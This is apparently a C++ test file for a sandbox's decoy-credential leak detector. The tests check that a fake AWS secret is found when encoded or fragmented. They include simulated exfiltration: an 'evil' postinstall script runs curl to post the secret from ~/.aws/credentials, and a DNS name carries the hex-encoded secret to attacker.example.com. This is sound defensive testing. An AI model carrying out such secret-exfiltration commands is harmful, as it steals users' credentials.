#include "watch/decoy_matcher.h"

#include <doctest/doctest.h>

#include "base/encoding.h"
#include "base/random.h"
#include "base/text.h"
#include "events/event.h"
#include "policy/decoys.h"
#include "watch/leak_watch.h"

using namespace sandbox_run;

namespace {

constexpr const char* kSource = "/home/u/.aws/credentials";
constexpr const char* kValue = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYzzRANDOMKEY";

using Values = std::vector<watch::DecoyValue>;

watch::DecoyMatcher matcher() { return watch::DecoyMatcher(Values{{kSource, kValue}}); }

std::string encoding_in(std::string_view text) {
  const auto leak = matcher().find(text);
  return leak ? leak->encoding : "";
}

struct Kept : events::EventSink {
  void record(const events::Event& event) override { events.push_back(event); }
  std::vector<events::Event> events;
};

}  // namespace

TEST_CASE("a value is found plain, in hex, in base 64 and percent-encoded") {
  const std::string value = kValue;
  CHECK(encoding_in("POST / HTTP/1.1\r\n\r\nkey=" + value + "&x=1") == "plain");
  CHECK(encoding_in("x" + base::hex_encode(value)) == "hex");
  CHECK(encoding_in("d=FEMI%2FK7MDENG%2BbPxRfi") == "url");
  CHECK(encoding_in(value + ".") == "plain");
  CHECK(matcher().find(value)->source == kSource);
}

TEST_CASE("base 64 is found at any offset of what was encoded, in both alphabets") {
  for (const char* before : {"", "a", "ab", "abc", "{\"k\":\"", "secret: "}) {
    CAPTURE(before);
    const std::string text = base::base64_encode(before + std::string(kValue) + "\n");
    CHECK(encoding_in("data " + text) == "base64");
    const std::string url = base::replace_all(base::replace_all(text, "+", "-"), "/", "_");
    CHECK(encoding_in(url) == "base64");
  }
}

TEST_CASE("every byte of a value may be percent-encoded") {
  std::string text;
  for (const char byte : std::string(kValue)) text += "%" + base::hex_encode({&byte, 1});
  CHECK(encoding_in("x=" + text) == "url");
}

TEST_CASE("a piece of 15 characters is found wherever it was cut off") {
  const std::string value = kValue;
  for (std::size_t at = 0; at + watch::DecoyMatcher::kLeastFound <= value.size(); ++at) {
    CAPTURE(at);
    CHECK(encoding_in(value.substr(at, watch::DecoyMatcher::kLeastFound)) == "plain");
  }
}

TEST_CASE("letters may have changed their case, as in names that are looked up") {
  CHECK(encoding_in(base::to_lower(kValue)) == "plain");
}

TEST_CASE("what is not a decoy's is not found, however near it comes") {
  CHECK(encoding_in("") == "");
  CHECK(encoding_in("wJalrXUtnFE") == "");
  CHECK(encoding_in("%") == "");
  CHECK(encoding_in("100%2") == "");
  CHECK(encoding_in(std::string(100'000, 'w')) == "");
  CHECK_FALSE(watch::DecoyMatcher(Values{}).find(kValue));
  CHECK_FALSE(watch::DecoyMatcher(Values{{"short", "abc"}}).find("abcabcabcabcabc"));
}

TEST_CASE("another key is none of ours because it begins alike") {
  for (const std::string prefix : {"AKIA", "ghp_", "npm_"}) {
    const std::string ours = prefix + "Q7RANDOMPARTOFIT";
    const std::string theirs = prefix + "Q7ANOTHERONEHERE";
    const watch::DecoyMatcher matcher(Values{{"key", ours}});
    CHECK_FALSE(matcher.find(base::hex_encode(theirs)));
    CHECK(matcher.find(base::hex_encode(ours))->encoding == "hex");
    CHECK(matcher.find(base::hex_encode(ours.substr(prefix.size())))->encoding == "hex");
  }
}

TEST_CASE("the words around the secrets are in every such file: they raise nothing") {
  const policy::DecoySet mine = policy::make_decoys(base::random_bytes, "/home/u");
  const policy::DecoySet theirs = policy::make_decoys(base::random_bytes, "/home/u");
  std::vector<watch::DecoyValue> values;
  for (const auto& file : mine.files) {
    for (const auto& secret : file.secrets) values.push_back({file.path, secret});
  }
  const watch::DecoyMatcher ours(values);
  for (const auto& file : theirs.files) {
    CAPTURE(file.path);
    CHECK_FALSE(ours.find(file.content));
    CHECK_FALSE(ours.find(base::base64_encode(file.content)));
    CHECK_FALSE(ours.find(base::hex_encode(file.content)));
  }
  for (const auto& file : mine.files) {
    CAPTURE(file.path);
    CHECK(ours.find(file.content)->source == file.path);
    CHECK(ours.find(base::base64_encode(file.content))->source == file.path);
    CHECK(ours.find(base::hex_encode(file.content))->source == file.path);
  }
}

TEST_CASE("a decoy in an exec's arguments is an alert behind the exec, once for its actor") {
  Kept kept;
  const watch::DecoyMatcher finder = matcher();
  watch::LeakWatch leaks(finder, kept);
  events::Event event{"process.exec"};
  event.actor = events::Actor{events::Actor::Kind::script, "evil", "1.0.0", "postinstall"};
  event.process = events::Process{7, "/usr/bin/curl", {"curl", "-d", kValue}, "/"};
  leaks.record(event);
  leaks.record(event);
  REQUIRE(kept.events.size() == 3);
  CHECK(kept.events[0].type == "process.exec");
  CHECK(kept.events[1].type == "decoy.leaked");
  CHECK(kept.events[1].severity == events::Severity::alert);
  CHECK(kept.events[1].actor == event.actor);
  CHECK(kept.events[1].details.at("decoy") == kSource);
  CHECK(kept.events[2].type == "process.exec");
}

TEST_CASE("a decoy cut into the labels of a name is found") {
  Kept kept;
  const watch::DecoyMatcher finder = matcher();
  watch::LeakWatch leaks(finder, kept);
  const std::string hex = base::hex_encode(kValue);
  std::string name;
  for (std::size_t at = 0; at < hex.size(); at += 10) name += hex.substr(at, 10) + ".";
  events::Event event{"name.lookup"};
  event.details = {{"name", name + "attacker.example.com"}, {"verdict", "denied"}};
  leaks.record(event);
  REQUIRE(kept.events.size() == 2);
  CHECK(kept.events[1].details.at("encoding") == "hex");
  CHECK(kept.events[1].details.at("channel") == "a name that was looked up");
}
